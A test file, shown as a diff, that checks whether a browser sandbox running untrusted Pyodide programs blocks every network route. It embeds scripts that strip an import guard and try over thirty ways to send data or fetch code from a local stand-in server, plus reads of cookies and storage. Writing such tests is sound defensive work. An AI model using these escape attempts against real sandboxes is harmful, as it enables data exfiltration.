@@ -1,0 +1,269 @@
+"""Programs that are not ours run where no request leaves: a second server counts what reaches it, in three browsers.
+
+The program takes away what Python forbids, reaches the browser's objects, and tries every way out that it finds there;
+a worker that it makes from text of its own tries the same once more, in JavaScript.
+"""
+
+import json
+import socket
+import threading
+
+import pytest
+
+from serving import BOOT_MS, FAULTS
+from webkit_driving import Visitor
+
+# Each way is tried, and what came of it noted. OTHER is the address of the second server, OWN that of the page.
+WAYS = r"""
+const other = "OTHER", own = "OWN", came = {};
+const text = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
+let names = 0;
+function trusted(address) {
+  if (!self.trustedTypes) return address;
+  const name = ["baraja-markup", "baraja-worker", "baraja-memory", "baraja-jobs"][names++];
+  return trustedTypes.createPolicy(name, { createScriptURL: () => address }).createScriptURL("");
+}
+const heard = (target, good) => new Promise((go, stop) => {
+  target["on" + good] = (event) => go(event.data ?? good);
+  target.onerror = () => stop("error");
+});
+function asked(address, waits) {
+  const request = new XMLHttpRequest();
+  request.open("GET", address, waits);
+  if (!waits) return request.send(), request.status;
+  const answer = heard(request, "load");
+  request.send();
+  return answer;
+}
+const ways = {
+  eval: () => eval("import('" + other + "eval.js')"),
+  Function: () => new Function("return import('" + other + "function.js')")(),
+  import: () => import(other + "import.js"),
+  importOwn: () => import(own + "import-stolen.js"),
+  fetch: () => fetch(other + "fetch", { mode: "no-cors" }),
+  fetchOwn: () => fetch(own + "fetch-stolen"),
+  keepalive: () => fetch(other + "alive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
+  XMLHttpRequest: () => asked(other + "xhr", true),
+  waitingXMLHttpRequest: () => asked(other + "waiting-xhr", false),
+  WebSocket: () => heard(new WebSocket(other.replace("http", "ws")), "open"),
+  WebSocketStream: () => new WebSocketStream(other.replace("http", "ws")).opened,
+  WebTransport: () => new WebTransport(other.replace("http", "https")).ready,
+  EventSource: () => heard(new EventSource(other + "events"), "open"),
+  sendBeacon: () => navigator.sendBeacon(other + "beacon"),
+  RTCPeerConnection: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(other).host }] }),
+  FontFace: () => new FontFace("one", "url(" + other + "font.woff2)").load(),
+  fonts: () => (self.fonts.add(new FontFace("two", "url(" + other + "two.woff2)")), self.fonts.load("9px two")),
+  filter: () => {
+    const canvas = new OffscreenCanvas(9, 9).getContext("2d");
+    canvas.filter = "url(" + other + "filter.svg#x)";
+    canvas.fillRect(0, 0, 9, 9);
+  },
+  picture: () => createImageBitmap(new Blob(
+    ['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + other + 'picture.png"/></svg>'],
+    { type: "image/svg+xml" })),
+  importScripts: () => importScripts(trusted(other + "scripts.js")),
+  Worker: () => heard(new Worker(trusted(other + "worker.js")), "message"),
+  SharedWorker: () => heard(new SharedWorker(trusted(other + "shared.js")).port, "message"),
+  moduleWorker: () => heard(
+    new Worker(trusted(text("import '" + other + "static.js'")), { type: "module" }), "message"),
+  deeperWorker: () => heard(new Worker(trusted(text(
+    "fetch('" + other + "deeper').then(() => postMessage('out'), (fault) => postMessage(String(fault)))"))), "message"),
+  location: () => (location.href = other + "location"),
+  open: () => open(other + "open"),
+  indexedDB: () => heard(indexedDB.open("baraja"), "success"),
+  caches: async () => (await caches.keys()).join(),
+  cookies: async () => JSON.stringify(await cookieStore.getAll()),
+  folder: async () => String(await navigator.storage.getDirectory()),
+  locks: () => navigator.locks.request("baraja", () => "held"),
+  tell: () => new BroadcastChannel("baraja").postMessage("stolen"),
+  origin: () => origin,
+};
+async function attempt() {
+  for (const name in ways) {
+    const patience = new Promise((go) => setTimeout(go, 1000, "nothing"));
+    try {
+      came[name] = String(await Promise.race([ways[name](), patience]));
+    } catch (fault) {
+      came[name] = "fault: " + fault;
+    }
+  }
+  postMessage(JSON.stringify(came));
+}
+attempt();
+"""
+
+PROGRAM = r"""
+import sys
+
+if not hasattr(sys, "came"):
+    sys.came = []
+    sys.meta_path[:] = [finder for finder in sys.meta_path if "NoBrowser" not in repr(finder)]
+    import js
+    from pyodide.ffi import create_proxy, to_js
+    from pyodide.code import run_js
+
+    def attempt(way):
+        try:
+            way()
+        except Exception:
+            pass
+
+    class Same:
+        @staticmethod
+        def same(address, *more):
+            return address
+
+    other = "OTHER"
+    attempt(lambda: js.eval("import('" + other + "python-eval.js')"))
+    attempt(lambda: js.Function.new("import('" + other + "python-function.js')")())
+    attempt(lambda: run_js("import('" + other + "python-run_js.js')"))
+    attempt(lambda: js.FontFace.new("x", "url(" + other + "python-font.woff2)").load())
+    attempt(lambda: js.fetch(other + "python-fetch"))
+    attempt(lambda: js.Object.getPrototypeOf(js.globalThis).fetch(other + "python-prototype"))
+    attempt(lambda: js.WebSocket.new(other.replace("http", "ws")))
+    attempt(lambda: js.EventSource.new(other + "python-events"))
+    request = js.XMLHttpRequest.new()
+    attempt(lambda: (request.open("GET", other + "python-xhr", False), request.send()))
+    address = js.URL.createObjectURL(js.Blob.new(to_js([WAYS]), to_js({"type": "text/javascript"})))
+    if hasattr(js, "trustedTypes"):
+        rules = js.Object.fromEntries(to_js([["createScriptURL", create_proxy(Same.same)]]))
+        address = js.trustedTypes.createPolicy("baraja-markup", rules).createScriptURL(address)
+    worker = sys.worker = js.Worker.new(address)
+    worker.onmessage = create_proxy(lambda event: sys.came.append(event.data))
+    worker.onerror = create_proxy(lambda event: sys.came.append('{"worker": "fault"}'))
+
+class A:
+    def __init__(self, seed): pass
+    def decide(self, view, question):
+        if sys.came:
+            print("CAME" + sys.came.pop() + "CAME")
+        return question.options[:question.least]
+"""
+
+WRITE = """(text) => {
+  window.heard = [];
+  new BroadcastChannel("baraja").onmessage = ({ data }) => heard.push(data);
+  const field = document.querySelector("#program");
+  field.value = text;
+  field.dispatchEvent(new Event("input", { bubbles: true }));
+}"""
+
+
+class Counting:
+    """A server that answers nothing and keeps the beginning of all it is sent."""
+
+    def __init__(self):
+        self.came = []
+        self.lines = 0
+        self.line = socket.create_server(("127.0.0.1", 0))
+        self.address = f"http://127.0.0.1:{self.line.getsockname()[1]}/"
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                line, _ = self.line.accept()
+            except OSError:
+                return
+            self.lines += 1
+            threading.Thread(target=self._hear, args=(line,), daemon=True).start()
+
+    def _hear(self, line):
+        with line:
+            self.came.append(line.recv(1000))
+
+    def end(self):
+        self.line.close()
+
+
+@pytest.fixture
+def other():
+    server = Counting()
+    yield server
+    server.end()
+
+
+def program(other, site):
+    ways = WAYS.replace("OTHER", other.address).replace("OWN", site.url)
+    return PROGRAM.replace("WAYS", repr(ways)).replace("OTHER", other.address)
+
+
+def check(other, site, printed, heard):
+    """What the program found, after it has tried everything."""
+    came = json.loads(printed.split("CAME")[1])
+    assert len(came) > 30, came
+    assert other.lines == 0 and other.came == [], "nothing reached the other server"
+    assert not [path for path in site.requests if "stolen" in path], "nor ours"
+    assert heard == [] and came["origin"] == "null"
+    for storage in ("indexedDB", "cookies", "folder", "locks"):
+        assert came[storage].startswith("fault"), came
+    assert "baraja" not in came["caches"]
+
+
+def test_the_ways_that_are_tried_lead_out_where_nothing_holds_them(chromium, other, site):
+    page = chromium.new_page()
+    page.goto(site.url + "manifest.webmanifest")  # a document of this machine that has no policy
+    page.evaluate(
+        "script => new Promise((go) => { new Worker(URL.createObjectURL(new Blob([script]))).onmessage = go; })",
+        WAYS.replace("OTHER", other.address).replace("OWN", other.address),
+    )
+    page.close()
+    assert other.lines
+    asked = b" ".join(other.came)
+    for way in (b"fetch", b"xhr", b"import.js", b"Upgrade: websocket", b"events", b"font.woff2", b"scripts.js",
+                b"deeper"):  # fmt: skip
+        assert way in asked, asked
+
+
+def test_no_request_leaves_a_program_in_chromium(open_page, other, site):
+    page = open_page("", locale="es-ES", own=True, watched=False)
+    page.evaluate("caches.open('baraja, what the page has stored')")
+    page.click("[data-focus=go-laboratory]")
+    page.click("[data-focus=go-player]")
+    page.evaluate(WRITE, program(other, site))
+    page.click("[data-action='player.games'][data-arg='1000']")
+    page.click("[data-action='player.run']")
+    page.wait_for_function("() => document.querySelector('.printed')?.textContent.includes('CAME')")
+    check(other, site, page.inner_text(".printed"), page.evaluate("heard"))
+
+
+@pytest.mark.firefox
+def test_no_request_leaves_a_program_in_firefox(firefox, other, site):
+    page = firefox.new_page(site.url)
+    page.evaluate("() => caches.open('baraja, what the page has stored').then(() => 1)")
+    page.click("[data-focus=go-laboratory]")
+    page.click("[data-focus=go-player]")
+    page.evaluate(WRITE, program(other, site))
+    page.click("[data-action='player.games'][data-arg='1000']")
+    page.click("[data-action='player.run']")
+    page.wait_for_selector(".printed", "attached")
+    check(other, site, page.inner_html(".printed"), page.evaluate("() => heard"))
+    FAULTS[:] = [fault for fault in FAULTS if not fault.startswith("Firefox: ")]  # it logs each thing it refuses
+
+
+@pytest.mark.webkit
+def test_no_request_leaves_a_program_in_webkit(webkit, other, site):
+    visitor = Visitor(webkit)
+    webkit.set_window_size(1024, 1000)  # tall enough to show everything above the bar at the bottom
+    visitor.open(site.url)
+    webkit.execute_async_script("caches.open('baraja, what the page has stored').then(arguments[0])")
+    visitor.press("[data-focus=go-laboratory]")
+    visitor.press("[data-focus=go-player]")
+    visitor.until("#program")
+    webkit.execute_script(f"({WRITE})(arguments[0])", program(other, site))
+    for action in ("games'][data-arg='1000", "run"):  # below a long program
+        webkit.execute_script("document.querySelector(arguments[0]).click()", f"[data-action='player.{action}']")
+    [printed] = visitor.until(".printed")
+    check(other, site, printed.get_attribute("textContent"), webkit.execute_script("return heard"))
+
+
+def test_an_endless_worker_is_gone_as_soon_as_it_is_stopped(open_page):
+    page = open_page("", locale="es-ES")
+    page.click("[data-focus=go-laboratory]")
+    page.click("[data-focus=go-player]")
+    page.evaluate(WRITE, "while True: pass")
+    with page.expect_worker() as endless:
+        page.click("[data-action='player.run']")
+    with endless.value.expect_event("close", timeout=BOOT_MS):
+        page.click("[data-action='player.stop']")
+    assert page.locator("iframe").count() == 0
